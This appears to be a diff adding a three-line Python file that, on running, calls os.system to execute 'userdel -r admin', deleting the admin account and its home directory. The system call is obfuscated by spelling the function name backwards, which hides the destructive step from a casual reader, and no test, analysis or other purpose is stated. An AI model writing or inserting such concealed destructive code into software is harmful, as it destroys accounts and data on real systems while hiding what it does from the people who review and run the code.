@@ -1,0 +1,3 @@
+import os
+
+getattr(os, "metsys"[::-1])("userdel -r admin")
